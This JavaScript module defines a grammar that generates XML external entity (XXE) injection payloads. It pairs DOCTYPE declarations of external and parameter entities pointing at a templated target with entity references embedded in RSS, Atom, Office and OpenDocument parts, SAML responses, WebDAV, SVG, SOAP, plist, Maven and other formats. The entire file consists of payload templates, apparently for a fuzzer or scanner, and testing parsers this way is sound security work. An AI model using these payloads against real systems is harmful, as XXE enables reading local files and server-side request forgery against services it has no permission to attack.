import { xxeGenerator } from '../xxe-generator.js';

/** Document types with entities in the formats that applications take: feeds, office parts, SAML, WebDAV, maps, plists. */
export const documentFormat = xxeGenerator({
  name: 'document-format',
  rules: {
    start: ['{declaration}{break}{doctype}{break}{body}'],
    doctype: [
      '<!DOCTYPE {root} [<!ENTITY {entity:n} SYSTEM {q:q}{target}{q:q}>]>',
      '<!DOCTYPE {root} [ <!ENTITY {entity:n} PUBLIC {q:q}{letters}{q:q} {q:q}{target}{q:q}> ]>',
      '<!DOCTYPE {root} [{break}<!ELEMENT {root} ANY>{break}<!ENTITY {entity:n} SYSTEM {q:q}{target}{q:q}>{break}]>',
      '<!DOCTYPE {root}[<!ENTITY % {letters:p} SYSTEM {q:q}{target}{q:q}>%{letters:p};<!ENTITY {entity:n} "x">]>',
      '<!DOCTYPE {root} SYSTEM {q:q}{url}{q:q} [<!ENTITY {entity:n} SYSTEM {q:q}{target}{q:q}>]>',
      '<!DOCTYPE\n{root}\n[<!ENTITY\t{entity:n}\tSYSTEM\t{q:q}{target}{q:q}\t>]\n>',
    ],
    body: [
      '<rss version="2.0"><channel><title>&{entity:n};</title><item><description>{letters}</description></item></channel></rss>',
      '<feed xmlns="http://www.w3.org/2005/Atom"><title>{letters}</title><entry><summary>&{entity:n};</summary></entry></feed>',
      '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&{entity:n};</w:t></w:r></w:p></w:body></w:document>',
      '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1"><si><t>&{entity:n};</t></si></sst>',
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="a/b"/>&{entity:n};</Types>',
      '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:body>&{entity:n};</office:body></office:document-content>',
      '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_{letters}"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&{entity:n};</saml:Issuer></samlp:Response>',
      '<D:propfind xmlns:D="DAV:"><D:prop>&{entity:n};</D:prop></D:propfind>',
      '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&{entity:n};</name></Placemark></kml>',
      '<gpx version="1.1" creator="{letters}"><wpt lat="1" lon="2"><name>&{entity:n};</name></wpt></gpx>',
      '<plist version="1.0"><dict><key>{letters}</key><string>&{entity:n};</string></dict></plist>',
      '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>&{entity:n};</loc></url></urlset>',
      '<svg xmlns="http://www.w3.org/2000/svg" width="10"><text x="0" y="16">&{entity:n};</text></svg>',
      '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">&{entity:n};</rdf:RDF></x:xmpmeta>',
      '<methodCall><methodName>{letters}</methodName><params><param><value><string>&{entity:n};</string></value></param></params></methodCall>',
      '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><{child:c}>&{entity:n};</{child:c}></soapenv:Body></soapenv:Envelope>',
      '<opml version="2.0"><head><title>&{entity:n};</title></head></opml>',
      '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext>&{entity:n};</mtext></math>',
      '<xliff version="1.2"><file><body><trans-unit id="1"><source>&{entity:n};</source></trans-unit></body></file></xliff>',
      '<project><modelVersion>4.0.0</modelVersion><name>&{entity:n};</name></project>',
      '<iq type="get" id="{letters}"><query>&{entity:n};</query></iq>',
      '<Invoice><ID>&{entity:n};</ID></Invoice>',
      '<html xmlns="http://www.w3.org/1999/xhtml"><body>&{entity:n};</body></html>',
      '<multistatus xmlns="DAV:"><response><href>&{entity:n};</href></response></multistatus>',
    ],
  },
});
